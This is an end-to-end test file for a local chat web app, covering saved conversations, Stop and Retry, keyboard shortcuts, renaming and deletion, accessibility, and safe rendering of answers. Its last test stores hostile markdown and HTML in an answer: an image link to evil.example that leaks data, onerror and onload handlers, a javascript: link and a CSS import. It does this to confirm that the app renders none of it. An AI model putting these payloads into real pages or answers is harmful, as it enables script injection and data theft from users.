import assert from 'node:assert/strict'
import { test } from 'node:test'
import { url } from '../support/shared.ts'
import { barriers } from './accessibility.ts'
import { answered, ask, openPage } from './page.ts'

test('a question is answered, and both are there after a reload, at an address of their own', async () => {
  await using opened = await openPage()
  const { page, complaints, foreign } = opened
  await page.getByText('smollm2-135m-instruct, running here').waitFor()
  await ask(page, 'Say hello in one short sentence.')
  assert.match(page.url(), /\/chat\/conv_/)
  const answer = (await page.locator('.answer .markdown').textContent()) ?? ''
  assert.ok(answer.trim().length > 0)
  await page.locator('.answer .facts').getByText('tokens/s').waitFor()
  // The answer is stored when it has ended: only then may the page go.
  await page.waitForFunction(async () => {
    const items = await fetch(`/v1/conversations/${location.pathname.split('/').at(-1)}/items`)
    return (await items.json()).data.length === 2
  })
  await page.reload()
  await page
    .locator('.answer .markdown')
    .getByText(answer.trim().split('\n')[0] ?? '')
    .first()
    .waitFor()
  assert.equal(await page.locator('.question .bubble').textContent(), 'Say hello in one short sentence.')
  assert.deepEqual(complaints, [])
  assert.deepEqual(foreign, [])
})

test('Stop ends an answer and keeps what there is; Retry asks again', async () => {
  await using opened = await openPage('/', {}, 500)
  const { page } = opened
  await ask(page, 'Write a very long story about a lighthouse keeper, with many chapters.', { wait: false })
  await page
    .locator('.answer .markdown')
    .getByText(/\w+ \w+/)
    .first()
    .waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await answered(page)
  await page.getByText('Stopped', { exact: true }).waitFor()
  assert.ok(((await page.locator('.answer .markdown').textContent()) ?? '').trim().length > 0)
  await page.getByRole('button', { name: 'Retry' }).click()
  await page
    .locator('.answer.streaming .markdown')
    .getByText(/\w+ \w+/)
    .first()
    .waitFor()
  await page.keyboard.press('Escape')
  await answered(page)
  assert.equal(await page.locator('.answer').count(), 1)
  assert.equal(await page.locator('.question').count(), 1)
})

test('the keyboard: / goes to the text box, Ctrl-K finds, ? lists, Esc closes', async () => {
  await using opened = await openPage()
  const { page } = opened
  const focused = () => page.evaluate(() => document.activeElement?.id)
  assert.equal(await focused(), 'message', 'the first screen has the text box in focus')
  await page.evaluate(() => (document.activeElement as HTMLElement).blur())
  await page.keyboard.press('?')
  await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  await page.evaluate(() => (document.activeElement as HTMLElement).blur())
  await page.keyboard.press('/')
  assert.equal(await focused(), 'message')
  await page.keyboard.press('Control+k')
  await page.waitForFunction(() => document.activeElement?.id === 'find-conversation')
})

test('a conversation is renamed, and a deletion can be undone', async () => {
  await using opened = await openPage('/', {}, 500)
  const { page } = opened
  await ask(page, 'Answer with the single word blue, nothing else, please.', { wait: false })
  await page.getByRole('button', { name: 'Stop' }).click()
  await answered(page)
  const row = page.locator('.row.current')
  await row.hover()
  await row.getByRole('button', { name: /^Rename/ }).click()
  await page.getByLabel('New title').fill('Zanzibar')
  await page.keyboard.press('Enter')
  await page.locator('.row.current').getByText('Zanzibar').waitFor()
  await page.reload()
  await page.locator('.row.current').getByText('Zanzibar').waitFor()
  await page.locator('.row.current').hover()
  await page
    .locator('.row.current')
    .getByRole('button', { name: /^Delete/ })
    .click()
  await page.getByText('Deleted “Zanzibar”.').waitFor()
  assert.equal(await page.locator('.row').getByText('Zanzibar').count(), 0)
  await page.getByRole('button', { name: 'Undo' }).click()
  await page.locator('.row').getByText('Zanzibar').waitFor()
})

test('New chat starts afresh, and back returns', async () => {
  await using opened = await openPage()
  const { page } = opened
  await ask(page, 'Name one colour.', { wait: false })
  await page.waitForURL(/\/chat\/conv_/)
  const address = page.url()
  await page.getByRole('button', { name: 'New chat' }).click()
  await page.getByText('What would you like to know?').waitFor()
  await page.goBack()
  await page.waitForURL(address)
  await page.locator('.question').getByText('Name one colour.').waitFor()
})

for (const [what, options] of [
  ['light', { colorScheme: 'light' }],
  ['dark', { colorScheme: 'dark' }],
  ['phone', { viewport: { width: 390, height: 844 } }],
] as const) {
  test(`nobody is shut out, nothing overflows: ${what}`, async () => {
    await using opened = await openPage('/', options, 500)
    const { page } = opened
    await ask(page, 'List two fruits.', { wait: false })
    await page.getByRole('button', { name: 'Stop' }).click()
    await answered(page)
    assert.deepEqual(await barriers(page), [])
  })
}

test('no address of another site is ever asked, even if an answer wants it', async () => {
  await using opened = await openPage()
  const { page, foreign } = opened
  // Which it says only when it is signed in.
  await page.getByText('running here').waitFor()
  const hostile = [
    '![x](https://evil.example/leak?d=1)',
    '<img src=x onerror="window.hacked=1">',
    '[go](javascript:window.hacked=1)',
    '<svg onload="window.hacked=1"></svg>',
    '<style>@import "https://evil.example/a.css"</style>',
  ].join('\n\n')
  const id = await page.evaluate(async (text) => {
    const headers = { 'content-type': 'application/json' }
    const body = JSON.stringify({ metadata: { title: 'hostile' }, items: [{ role: 'assistant', content: text }] })
    return (await (await fetch('/v1/conversations', { method: 'POST', headers, body })).json()).id
  }, hostile)
  await page.goto(`${url}/chat/${id}`)
  await page.locator('.answer .block').first().waitFor()
  assert.equal(await page.evaluate(() => 'hacked' in window), false)
  assert.equal(await page.locator('.answer :is(img, svg:not(.icon), style, script)').count(), 0)
  assert.deepEqual(foreign, [])
})
